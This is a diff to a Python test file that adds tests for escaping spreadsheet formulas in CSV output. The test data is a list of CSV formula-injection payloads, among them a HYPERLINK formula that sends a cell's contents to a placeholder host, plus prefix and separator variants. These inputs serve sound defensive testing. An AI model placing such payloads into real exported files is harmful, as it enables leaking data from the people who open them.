@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import re
 from pathlib import Path
 
 import pytest
 
 from dataset_trees import write_table as write_rows
-from deepmtdr.csv_tables import add_once, read_column_names, read_table, write_table
+from deepmtdr.csv_tables import add_once, escape_formula, read_column_names, read_table, unescape_formula, write_table
 from deepmtdr.errors import DataError
 
 
@@ -86,6 +87,46 @@ def test_name_that_is_not_utf_8_is_an_error_and_leaves_the_former_table(tmp_path
         write_table(tmp_path / "t.csv", ("name",), [("a",), ("b\udcff",)])
     assert (tmp_path / "t.csv").read_text() == "name\na\n"
     assert [path.name for path in tmp_path.iterdir()] == ["t.csv"]
+
+
+FORMULAS = [
+    '=HYPERLINK("http://example.org/?"&A1,"eye")',
+    "@SUM(A1)",
+    "+1+1",
+    "-1+1",
+    " =1+1",
+    "\t=1+1",
+    '"=1+1',
+    "\uff1d1+1",
+    "'=1+1",
+    "''=1+1",
+    "x;=1+1;-2",
+    "x\n=1+1",
+]
+
+
+@pytest.mark.parametrize("text", FORMULAS)
+def test_no_cell_is_a_formula_wherever_a_spreadsheet_splits_it_and_the_text_is_read_back(
+    tmp_path: Path, text: str
+) -> None:
+    escaped = escape_formula(text)
+    assert isinstance(escaped, str) and unescape_formula(escaped) == text
+    assert not any(part.strip().strip('"').startswith(tuple("=+-@\uff1d")) for part in re.split("[;\t\n]", escaped))
+    write_table(tmp_path / "t.csv", ("name", "note"), [("a", text)])
+    assert [row["note"] for _, row in read_table(tmp_path / "t.csv", ("note",))] == [text.strip()]
+
+
+@pytest.mark.parametrize("cell", [-1, -1.5, "-1", "+1.5e-3", "-.5", "-inf", "a=b", "it's", "'quoted'", "a - b; c", "", None])
+def test_numbers_and_plain_text_are_written_unchanged(cell: object) -> None:
+    assert escape_formula(cell) == cell
+
+
+@pytest.mark.parametrize("cell", ["NaN", "nan", "NA", "N/A", "<NA>", "null", "#N/A"])
+def test_cell_without_a_value_is_empty_unless_it_is_a_name(tmp_path: Path, cell: str) -> None:
+    write_table(tmp_path / "t.csv", ("name", "grade"), [(cell, cell)])
+    assert [row for _, row in read_table(tmp_path / "t.csv", ("name", "grade"), names=("name",))] == [
+        {"name": cell, "grade": ""}
+    ]
 
 
 def test_key_that_is_there_already_is_an_error() -> None:
